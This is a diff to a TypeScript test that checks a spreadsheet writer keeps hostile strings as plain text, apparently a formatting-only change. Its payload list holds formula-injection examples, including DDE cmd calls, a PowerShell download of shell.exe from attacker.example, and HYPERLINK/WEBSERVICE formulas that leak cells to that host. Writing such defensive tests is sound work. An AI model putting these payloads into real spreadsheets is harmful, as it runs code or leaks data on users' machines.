@@ -20,11 +20,11 @@ const HOSTILE_STRINGS = [
   '+1+1',
   '-1+1',
   '@SUM(1,1)',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '+cmd|\' /C notepad\'!A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "+cmd|' /C notepad'!A0",
   '=DDE("cmd";"/C calc";"!A0")A0',
   '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for report")',
   '=WEBSERVICE("http://attacker.example/"&A2)',
@@ -61,12 +61,24 @@ const out = path.join(dir, 'hostile.xlsx');
 function plan(): SheetPlan {
   // Headers, names and goal text columns all hold the payloads.
   const cells: SheetPlan['cells'] = [['Header ' + HOSTILE_STRINGS[0], HOSTILE_STRINGS[4], 'Goal']];
-  HOSTILE_STRINGS.forEach((s, i) => cells.push([s, `Ms. ${s}`, i % 2 ? s : `Raise reading to 70% ${s}`]));
-  return { key: 'goals', name: 'Suggested Goals', cells, tables: [{ name: 'tlGoals', rect: { row: 1, column: 1, rowCount: 2, columnCount: 3 } }] };
+  HOSTILE_STRINGS.forEach((s, i) =>
+    cells.push([s, `Ms. ${s}`, i % 2 ? s : `Raise reading to 70% ${s}`]),
+  );
+  return {
+    key: 'goals',
+    name: 'Suggested Goals',
+    cells,
+    tables: [{ name: 'tlGoals', rect: { row: 1, column: 1, rowCount: 2, columnCount: 3 } }],
+  };
 }
 
 beforeAll(async () => {
-  const writer = createXlsxWriter({ outPath: out, inputs: [], inputFiles: [], previousState: null });
+  const writer = createXlsxWriter({
+    outPath: out,
+    inputs: [],
+    inputFiles: [],
+    previousState: null,
+  });
   await writer.render([plan()], { state: { version: 1, sheets: [] } });
 });
 
@@ -96,14 +108,17 @@ describe('hostile strings in plans stay text', () => {
     expect(encodeCellText('tab\tand\nnewline')).toBe('tab\tand\nnewline');
   });
 
-  it.skipIf(noLibreOffice())('LibreOffice, recalculating the file, finds every payload as text', async () => {
-    const sheet = (await recalculateXlsxDetailed(out)).get('Suggested Goals')!;
-    const expected = plan().cells;
-    for (let r = 0; r < expected.length; r++) {
-      for (let c = 0; c < 3; c++) {
-        expect(sheet.formulas[r][c], `row ${r + 1} col ${c + 1}`).toBeNull();
-        expect(sheet.values[r][c], `row ${r + 1} col ${c + 1}`).toBe(expected[r][c]);
+  it.skipIf(noLibreOffice())(
+    'LibreOffice, recalculating the file, finds every payload as text',
+    async () => {
+      const sheet = (await recalculateXlsxDetailed(out)).get('Suggested Goals')!;
+      const expected = plan().cells;
+      for (let r = 0; r < expected.length; r++) {
+        for (let c = 0; c < 3; c++) {
+          expect(sheet.formulas[r][c], `row ${r + 1} col ${c + 1}`).toBeNull();
+          expect(sheet.values[r][c], `row ${r + 1} col ${c + 1}`).toBe(expected[r][c]);
+        }
       }
-    }
-  });
+    },
+  );
 });
